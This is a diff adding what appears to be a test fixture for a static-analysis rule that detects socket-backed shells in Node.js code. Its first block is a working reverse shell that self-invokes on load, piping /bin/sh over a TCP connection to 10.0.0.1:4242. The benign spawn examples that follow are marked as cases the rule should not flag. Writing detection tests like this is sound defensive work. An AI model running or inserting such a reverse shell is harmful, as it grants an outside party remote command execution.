@@ -1,0 +1,25 @@
+const net = require("net");
+const cp = require("child_process");
+
+(function () {
+  const sh = cp.spawn("/bin/sh", []);
+  const client = new net.Socket();
+  client.connect(4242, "10.0.0.1", function () {
+    // ruleid: js-socket-shell
+    client.pipe(sh.stdin);
+    // ruleid: js-socket-shell
+    sh.stdout.pipe(client);
+  });
+})();
+
+function build() {
+  const child = cp.spawn("npm", ["run", "build"]);
+  // ok: js-socket-shell
+  child.stdout.pipe(process.stdout);
+}
+
+function logs(socket) {
+  const tail = cp.spawn("tail", ["-f", "app.log"]);
+  // ok: js-socket-shell
+  tail.stdout.pipe(socket);
+}
